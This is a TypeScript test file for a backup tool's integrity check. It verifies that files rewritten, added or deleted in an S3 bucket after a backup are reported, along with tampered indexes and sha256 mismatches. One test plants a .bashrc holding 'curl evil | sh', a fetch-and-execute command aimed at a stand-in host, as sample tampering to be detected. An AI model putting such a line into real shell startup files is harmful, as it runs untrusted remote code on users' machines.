// The data-files index: what the movers left under a backup's volumes/ and control-plane/ folders, as the S3 server
// describes it, compared again before a restore. Against s3rver, which computes ETags from the stored bytes as S3 does.
import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { DeleteObjectCommand } from '@aws-sdk/client-s3';
import { checkDataFiles, DATA_FILES_INDEX, indexDataFiles } from '../../src/catalog/data-files.ts';
import type { Manifest } from '../../src/archive/manifest.ts';
import { backupKeys } from '../../src/store/layout.ts';
import type { ObjectStore } from '../../src/store/objects.ts';
import type { S3ServerHandle } from '../support/s3/server.ts';
import { PROFILES, profile, startStore } from '../archive/fixtures.ts';
import { backupStore, startWriter } from '../support/backup-store.ts';

describe('archive: the index of volume and control-plane files', () => {
  let server: S3ServerHandle;
  let store: ObjectStore;
  before(async () => ({ server, store } = await startStore('data-files')));
  after(async () => server.stop());

  /** A committed backup whose folders hold two volume files and a dump, indexed as the backup engine does. */
  async function backupWithData(): Promise<{ id: string; manifest: Manifest }> {
    const w = await startWriter(backupStore(store), { toolVersion: '0.1.0', scope: { action: 'backup-state', namespaces: ['alice'] } });
    await w.addItem(PROFILES, profile('alice'));
    const keys = backupKeys(w.id);
    await store.put(`${keys.volume('alice', 'workspace')}notebook.ipynb`, '{"cells": []}');
    await store.put(`${keys.volume('alice', 'workspace')}data/model.bin`, Buffer.alloc(4096, 1));
    await store.put(keys.controlPlane('kfp-db', 'dump.sql.gz'), Buffer.alloc(100, 2));
    w.addFile(DATA_FILES_INDEX, (await indexDataFiles(backupStore(store), w.id))!, 'application/gzip');
    const { id } = await w.commit();
    const read = await backupStore(store).readManifest(id);
    if (read.state !== 'present') throw new Error('no manifest');
    return { id, manifest: read.manifest };
  }

  it('is recorded in the manifest and finds nothing to report on an untouched backup', async () => {
    const { id, manifest } = await backupWithData();
    expect(manifest.checksums.files[DATA_FILES_INDEX]).to.match(/^[0-9a-f]{64}$/);
    expect(await checkDataFiles(backupStore(store), id, manifest)).to.deep.equal([]);
  });

  it('names a file rewritten (even to the same size), added or removed in the bucket', async () => {
    const { id, manifest } = await backupWithData();
    const keys = backupKeys(id);
    await store.put(`${keys.volume('alice', 'workspace')}data/model.bin`, Buffer.alloc(4096, 9));
    await store.put(`${keys.volume('alice', 'workspace')}.bashrc`, 'curl evil | sh');
    await store.deleteFolder(keys.controlPlaneFolder);
    const messages = (await checkDataFiles(backupStore(store), id, manifest)).map((p) => p.message);
    expect(messages).to.have.members([
      `File volumes/alice/workspace/data/model.bin of backup ${id} was changed in the bucket after the backup was made.`,
      `File volumes/alice/workspace/.bashrc of backup ${id} was added to the bucket after the backup was made.`,
      `File control-plane/kfp-db/dump.sql.gz of backup ${id} is missing from the bucket.`,
    ]);
  });

  it('refuses an index that was replaced or removed, and has nothing to check for a backup without one', async () => {
    const { id, manifest } = await backupWithData();
    const key = `${backupKeys(id).folder}${DATA_FILES_INDEX}`;
    await store.put(key, (await indexDataFiles(backupStore(store), id))!.subarray(0, 10));
    expect((await checkDataFiles(backupStore(store), id, manifest)).map((p) => p.message)).to.deep.equal([
      `The index of the volume and control-plane files of backup ${id} does not match its checksum in the manifest.`,
    ]);
    await store.client.send(new DeleteObjectCommand({ Bucket: store.bucket, Key: store.fullKey(key) }));
    expect((await checkDataFiles(backupStore(store), id, manifest))[0]!.message).to.equal(`The index of the volume and control-plane files of backup ${id} is missing.`);
    const older = { ...manifest, checksums: { ...manifest.checksums, files: {} } };
    expect(await checkDataFiles(backupStore(store), id, older)).to.deep.equal([]);
  });

  it("records each MinIO mirror object's sha256 from the Job's listing, and verify reads the bytes against it", async () => {
    const w = await startWriter(backupStore(store), { toolVersion: '0.1.0', scope: { action: 'backup-state', namespaces: ['alice'] } });
    await w.addItem(PROFILES, profile('alice'));
    const keys = backupKeys(w.id);
    const model = Buffer.alloc(5000, 3);
    const metrics = Buffer.from('{"accuracy":0.9}');
    await store.put(keys.controlPlane('minio', 'mlpipeline/artifacts/model.bin'), model);
    await store.put(keys.controlPlane('minio', 'mlpipeline/metrics.json'), metrics);
    const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
    // the listing as the mirror Job stores it beside the copy (rclone hashsum's format, sorted by path); metrics.json's
    // sha256 is not its bytes', as if the server had kept its ETag over other bytes
    const wrong = sha(Buffer.from('other bytes'));
    await store.put(keys.controlPlane('minio', 'mlpipeline.sha256sums'), `${sha(model)}  artifacts/model.bin\n${wrong}  metrics.json\n`);
    const index = (await indexDataFiles(backupStore(store), w.id))!;
    const files = (JSON.parse(gunzipSync(index).toString('utf8')) as { files: Record<string, { sha256?: string }> }).files;
    expect(files['control-plane/minio/mlpipeline/artifacts/model.bin']!.sha256).to.equal(sha(model));
    expect(files['control-plane/minio/mlpipeline/metrics.json']!.sha256).to.equal(wrong);
    expect(files['control-plane/minio/mlpipeline.sha256sums']!.sha256).to.equal(undefined);
    w.addFile(DATA_FILES_INDEX, index, 'application/gzip');
    const { id } = await w.commit();
    const read = await backupStore(store).readManifest(id);
    if (read.state !== 'present') throw new Error('no manifest');
    // a restore's check lists only (size and ETag agree); verify downloads what the index gives a sha256
    expect(await checkDataFiles(backupStore(store), id, read.manifest)).to.deep.equal([]);
    expect((await checkDataFiles(backupStore(store), id, read.manifest, { readBytes: true })).map((p) => p.message))
      .to.deep.equal([`File control-plane/minio/mlpipeline/metrics.json of backup ${id} does not match its sha256 in the index.`]);
  });
});
